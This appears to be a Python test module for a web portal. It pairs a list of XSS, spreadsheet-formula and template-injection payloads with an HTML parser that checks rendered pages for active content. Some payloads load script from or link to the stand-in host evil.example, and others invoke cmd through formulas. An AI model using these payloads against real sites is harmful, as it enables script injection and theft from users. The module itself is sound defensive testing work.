"""XSS payloads and a checker that finds any active content they could have brought into a page.

Every payload carries the marker ``xss`` (in some spelling), so content a payload introduced
can be told from the portal's own markup. The checker parses with the standard library's
``html.parser`` (the way a browser tokenises, not with regular expressions over the text).
"""

from dataclasses import dataclass
from html.parser import HTMLParser

PAYLOADS = [
    # script tags
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/xss-2.js></SCRIPT>",
    "<scr<script>ipt>alert('xss-3')</scr</script>ipt>",
    '"><script>alert("xss-4")</script>',
    "</textarea><script>alert('xss-5')</script>",
    "';alert('xss-6');//",
    # event handlers
    "<img src=x onerror=alert('xss-7')>",
    "<svg onload=alert('xss-8')>",
    "<body onload=alert('xss-9')>",
    "<div onmouseover=\"alert('xss-10')\">悬停</div>",
    "<details open ontoggle=alert('xss-11')>",
    "\" autofocus onfocus=\"alert('xss-12')",
    # javascript: and data: URLs
    "<a href=\"javascript:alert('xss-13')\">点击</a>",
    "<a href=\"  JaVaScRiPt:alert('xss-14')\">点击</a>",
    "<a href=\"jav&#x09;ascript:alert('xss-15')\">点击</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTE2Jyk8L3NjcmlwdD4=">xss-16</a>',
    "<img src=\"javascript:alert('xss-17')\">",
    "<a href=\"vbscript:msgbox('xss-18')\">点击</a>",
    # CSS
    "<div style=\"width: expression(alert('xss-19'))\">x</div>",
    "<p style=\"background:url(javascript:alert('xss-20'))\">x</p>",
    "<style>@import 'javascript:alert(\"xss-21\")';</style>",
    # encoded variants
    "&lt;script&gt;alert('xss-22')&lt;/script&gt;",
    "<ScRiPt>alert(String.fromCharCode(120,115,115,45,50,51))</sCrIpT>",
    "<scr\x00ipt>alert('xss-24')</scr\x00ipt>",
    "\\u003cscript\\u003ealert('xss-25')\\u003c/script\\u003e",
    "<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;('xss-26')",
    # other elements
    "<iframe src=\"javascript:alert('xss-27')\"></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>">xss-28</object><embed src=xss-28.swf>',
    "<form action=\"javascript:alert('xss-29')\"><button>提交</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-30\')">',
    "<base href=\"javascript:alert('xss-31')//\">",
    # spreadsheet formulas (an export must write them as text)
    '=HYPERLINK("http://evil.example/xss-34","点击")',
    "+cmd|' /C calc'!xss35",
    "-2+3+cmd|' /C calc'!xss36",
    "@SUM(1+1)*cmd|' /C calc'!xss37",
    "\t=1+1 xss-38",
    # template injection: rendered, these would read XSS49 / XSS-TI
    '{{ "XSS"|add:"49" }}',
    "{% filter upper %}xss-ti{% endfilter %}",
]

# Bare URLs, for the fields that hold a link (a notice's external link, a session's policy link).
URL_PAYLOADS = [
    "javascript:alert('xss-u1')",
    " JaVaScRiPt:alert('xss-u2')",
    "java\tscript:alert('xss-u3')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLXU0Jyk8L3NjcmlwdD4=",
    "vbscript:msgbox('xss-u5')",
    "//evil.example/xss-u6",
]

# What an evaluated template-injection payload would show.
TEMPLATE_EVALUATED = ("XSS49", "XSS-TI")

_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "livescript:")
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "xlink:href",
    "srcdoc",
    "codebase",
}
_EMBEDDING = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}


def _squash(value: str) -> str:
    """The URL as a browser reads its scheme: control characters and spaces dropped, lower case."""
    return "".join(ch for ch in value if ch > " " and ch != "\x7f").lower()


@dataclass(frozen=True)
class Finding:
    tag: str
    reason: str
    where: str

    def __str__(self):
        return f"<{self.tag}> {self.reason}: {self.where[:160]!r}"


class _ActiveContentFinder(HTMLParser):
    def __init__(self, nonce: str | None):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.findings: list[Finding] = []
        self._raw: str | None = None  # inside <script> / <style>: (tag)
        self._raw_attrs: dict = {}
        self._raw_text: list[str] = []
        self.text: list[str] = []

    def _flag(self, tag, reason, where):
        self.findings.append(Finding(tag, reason, where))

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): value or "" for name, value in attrs}
        where = self.get_starttag_text() or tag
        for name, value in attributes.items():
            if name.startswith("on"):
                self._flag(tag, f"event handler attribute {name}", where)
            if name in _URL_ATTRIBUTES and _squash(value).startswith(_DANGEROUS_SCHEMES):
                self._flag(tag, f"{name} with a script URL", where)
            if name in _URL_ATTRIBUTES and _squash(value).startswith("//") and "xss" in value:
                self._flag(tag, f"{name} to another site named by a payload", where)
            if name == "style":
                squashed = _squash(value)
                if any(
                    bad in squashed for bad in ("expression(", "url(", "javascript:", "behavior:")
                ):
                    self._flag(tag, "style attribute with expression/url", where)
        if tag in _EMBEDDING:
            # The portal's own previews are same-origin paths (/applications/…); anything else
            # was brought in.
            source = attributes.get("src") or attributes.get("data") or attributes.get("href", "")
            if tag != "iframe" or not source.startswith("/") or "xss" in source.lower():
                self._flag(tag, "embedding element", where)
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self._flag(tag, "meta refresh", where)
        if tag == "form" and "xss" in attributes.get("action", "").lower():
            self._flag(tag, "form posting elsewhere", where)
        if tag in ("script", "style"):
            self._raw = tag
            self._raw_attrs = attributes
            self._raw_text = []
            if tag == "script":
                src = attributes.get("src")
                if src is not None and not (src.startswith("/") and not src.startswith("//")):
                    self._flag(tag, "script from another origin", where)
                if src is not None and "xss" in src.lower():
                    self._flag(tag, "script source named by a payload", where)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if self._raw == tag:
            body = "".join(self._raw_text)
            attributes = self._raw_attrs
            if tag == "script":
                inline = "src" not in attributes
                # JSON data blocks (json_script) never run; a break-out would show as a new tag.
                data_only = attributes.get("type", "").lower() in (
                    "application/json",
                    "application/ld+json",
                )
                if inline and not data_only and body.strip():
                    if self.nonce is None or attributes.get("nonce") != self.nonce:
                        self._flag(tag, "inline script without the page's nonce", body)
                    if "xss" in body.lower() or "alert(" in body:
                        self._flag(tag, "inline script holding payload text", body)
            else:
                squashed = _squash(body)
                if (
                    "xss" in squashed
                    or "expression(" in squashed
                    or "javascript:" in squashed
                    or "@import" in squashed
                ):
                    self._flag(tag, "style element holding payload text", body)
            self._raw = None

    def handle_data(self, data):
        if self._raw:
            self._raw_text.append(data)
        else:
            self.text.append(data)


def find_active_content(page: str, *, nonce: str | None = None) -> list[Finding]:
    """Everything in ``page`` a payload could have made active; empty when the page is inert.

    ``nonce`` is the page's CSP nonce: an inline script is the page's own only if it carries it.
    """
    finder = _ActiveContentFinder(nonce)
    finder.feed(page)
    finder.close()
    text = "".join(finder.text)
    for evaluated in TEMPLATE_EVALUATED:
        if evaluated in text:
            finder._flag("#text", "template syntax was evaluated", evaluated)
    return finder.findings


def response_nonce(response) -> str | None:
    """The nonce of the response's Content-Security-Policy header, if any."""
    header = response.headers.get("Content-Security-Policy", "")
    for part in header.replace(";", " ").split():
        if part.startswith("'nonce-"):
            return part[len("'nonce-") : -1]
    return None


def assert_inert(page: str, *, nonce: str | None = None, where: str = ""):
    findings = find_active_content(page, nonce=nonce)
    assert not findings, f"active content in {where}:\n" + "\n".join(map(str, findings))
